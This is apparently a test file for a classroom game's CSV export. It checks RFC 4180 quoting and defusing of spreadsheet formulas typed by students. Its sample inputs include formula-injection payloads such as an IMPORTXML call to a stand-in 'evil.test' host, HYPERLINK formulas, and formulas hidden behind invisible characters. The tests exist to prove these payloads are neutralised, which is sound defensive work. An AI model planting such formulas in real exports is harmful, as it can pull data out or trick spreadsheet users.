/** CSV export: RFC 4180 quoting and no spreadsheet formulas from what students typed. */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  buildResult,
  CSV_BOM,
  CSV_COLUMNS,
  csvCell,
  csvFileName,
  type ResultFile,
  resultFileName,
  resultsToCsv,
} from '../../src/classroom';
import { Game } from '../../src/engine';
import { CLASS_RESULT_OPTIONS, loadFixture, playThrough } from '../helpers';

const mini = loadFixture('mini.yaml');
const base = CLASS_RESULT_OPTIONS;

/** A strict RFC 4180 reader, to check what a spreadsheet would read back. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const c = text[i] as string;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
        continue;
      }
      if (c === '"') {
        quoted = false;
        i++;
        expect([',', '\r', undefined]).toContain(text[i]);
        continue;
      }
      field += c;
      i++;
      continue;
    }
    if (c === '"') {
      expect(field, 'a quote only opens a field').toBe('');
      quoted = true;
      i++;
    } else if (c === ',') {
      row.push(field);
      field = '';
      i++;
    } else if (c === '\r') {
      expect(text[i + 1], 'records end with CRLF').toBe('\n');
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 2;
    } else {
      expect(c, 'a bare line feed or quote is quoted').not.toMatch(/[\n"]/);
      field += c;
      i++;
    }
  }
  expect(field).toBe('');
  expect(row).toEqual([]);
  return rows;
}

describe('csvCell', () => {
  it('quotes commas, quotes and line breaks (RFC 4180), and semicolons for European spreadsheets', () => {
    expect(csvCell('plain text')).toBe('plain text');
    expect(csvCell('a, b')).toBe('"a, b"');
    expect(csvCell('say "no"')).toBe('"say ""no"""');
    expect(csvCell('line 1\nline 2')).toBe('"line 1\nline 2"');
    expect(csvCell('line 1\r\nline 2')).toBe('"line 1\r\nline 2"');
    expect(csvCell('a; b')).toBe('"a; b"');
    expect(csvCell('')).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell('Айгерим, «да»')).toBe('"Айгерим, «да»"');
  });

  it('defuses formulas: a text cell starting with = + - @ (or tab, CR) gets an apostrophe', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+7 votes')).toBe("'+7 votes");
    expect(csvCell('-2 credibility')).toBe("'-2 credibility");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\t=cmd')).toBe("'\t=cmd");
    expect(csvCell('\r=cmd')).toBe('"\'\r=cmd"');
    expect(csvCell('=HYPERLINK("http://x.test","click")')).toBe('"\'=HYPERLINK(""http://x.test"",""click"")"');
    expect(csvCell('=SUM(A1,B1)')).toBe('"\'=SUM(A1,B1)"');
    expect(csvCell('a=b')).toBe('a=b');
    // Numbers and booleans the game writes are values, not text: left alone.
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(3)).toBe('3');
    expect(csvCell(true)).toBe('true');
    expect(csvCell(Number.NaN)).toBe('');
  });

  it('defuses formulas hidden behind spaces, invisible characters, line feeds or full-width signs', () => {
    const leads = [' ', '  ', '\u00a0', '\u200b', '\u2060', '\ufeff', '\n', ' \n\u00a0'];
    const signs = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20'];
    for (const lead of leads) {
      for (const sign of signs) {
        const cell = csvCell(`${lead}${sign}HYPERLINK("http://x.test")`);
        expect(cell.replace(/^"/, '').startsWith("'"), JSON.stringify(lead + sign)).toBe(true);
      }
    }
    for (const sign of signs) expect(csvCell(`${sign}1`).startsWith("'"), sign).toBe(true);
    expect(csvCell('\t1')).toBe("'\t1");
    expect(csvCell('\r1')).toBe('"\'\r1"');
    // Text that merely contains a sign, or starts with a space before a word, stays as typed.
    expect(csvCell(' a = b')).toBe(' a = b');
    expect(csvCell('\u00a0yes')).toBe('\u00a0yes');
  });

  it('reads back as the same text (with the apostrophe) whatever was typed', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 5 }), (cells) => {
        const parsed = parseCsv(`${cells.map(csvCell).join(',')}\r\n`);
        expect(parsed).toEqual([cells.map((c) => (/^[=+\-@\t\r]/.test(c) ? `'${c}` : c))]);
      }),
      { numRuns: 500 },
    );
  });
});

describe('resultsToCsv', () => {
  function noted(seed: number): Game {
    const g = Game.start(mini, { role: 'host', seed });
    g.choose('ask_yes', { rationale: 'Yes, because "they" asked,\nand we must.', tally: { ask_yes: 3, ask_no: 1 } });
    g.choose('assess_yes', { rationale: '=IMPORTXML("http://evil.test")' });
    g.callVote({ rationale: '-risky but right', tally: { support: 14, abstain: 3, object: 5 } });
    while (!g.ended) g.continue();
    return g;
  }

  it('writes a header, then one row per decision of every result', () => {
    const games = [noted(1), playThrough(mini, 'chair', 2), playThrough(mini, 'host', 3)];
    const results = games.map((g, i) =>
      buildResult(g, { ...base, student: i === 0 ? '@admin, "the" student' : undefined, team: i === 1 ? 'Red' : '' }),
    );
    const loaded = results.map((r, i) => ({ fileName: `r${i}.json`, result: r }));
    const rows = parseCsv(resultsToCsv(loaded));
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    const body = rows.slice(1);
    expect(body).toHaveLength(results.reduce((a, r) => a + r.decisions.length, 0));
    const col = (row: string[], name: (typeof CSV_COLUMNS)[number]) => row[CSV_COLUMNS.indexOf(name)];
    let at = 0;
    results.forEach((r, i) => {
      for (const d of r.decisions) {
        const row = body[at++] as string[];
        expect(row).toHaveLength(CSV_COLUMNS.length);
        expect(col(row, 'file')).toBe(`r${i}.json`);
        expect(col(row, 'student')).toBe(r.student ? (r.student.startsWith('@') ? `'${r.student}` : r.student) : '');
        expect(col(row, 'team')).toBe(r.team ?? '');
        expect(col(row, 'scenario')).toBe('mini');
        expect(col(row, 'seat')).toBe(r.seat.id);
        expect(col(row, 'seed')).toBe(String(r.seed));
        expect(col(row, 'turn')).toBe(String(d.turn));
        expect(col(row, 'step')).toBe(d.step);
        expect(col(row, 'choice')).toBe(d.choice.id);
        expect(col(row, 'outcome')).toBe(d.outcome ?? '');
        expect(col(row, 'history_choice')).toBe(d.history?.id ?? '');
        expect(col(row, 'matched')).toBe(String(d.matched));
        expect(col(row, 'ending')).toBe(r.ending?.id ?? 'unfinished');
      }
    });
    const first = body.slice(0, results[0]?.decisions.length);
    expect(first.map((row) => col(row, 'rationale'))).toEqual([
      'Yes, because "they" asked,\nand we must.',
      '\'=IMPORTXML("http://evil.test")',
      "'-risky but right",
    ]);
    expect(col(first[0] as string[], 'student')).toBe('\'@admin, "the" student');
    expect(col(first[0] as string[], 'tally')).toBe('ask_yes: 3; ask_no: 1');
    // The room's vote on the proposal at the Council step.
    expect(col(first[2] as string[], 'step')).toBe('vote');
    expect(col(first[2] as string[], 'tally')).toBe('support: 14; abstain: 3; object: 5');
    // No cell a spreadsheet would run as a formula.
    for (const row of body) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('keeps a result without decisions as one row, names bare results, and can add a BOM', () => {
    const g = Game.start(mini, { role: 'host', seed: 1 });
    const empty = buildResult(g, base);
    const text = resultsToCsv([empty], { bom: true });
    expect(text.startsWith(CSV_BOM)).toBe(true);
    const rows = parseCsv(text.slice(1));
    expect(rows).toHaveLength(2);
    expect(rows[1]?.[0]).toBe(resultFileName(empty as ResultFile));
    expect(rows[1]?.[CSV_COLUMNS.indexOf('ending')]).toBe('unfinished');
    expect(rows[1]?.[CSV_COLUMNS.indexOf('turn')]).toBe('');
    expect(resultsToCsv([])).toBe(`${CSV_COLUMNS.join(',')}\r\n`);
  });

  it('names the export by the time given', () => {
    expect(csvFileName('2026-11-27T10:31:05+01:00')).toBe('article-four_results_2026-11-27T10-31-05.csv');
    expect(csvFileName('not a time')).toBe('article-four_results.csv');
  });
});
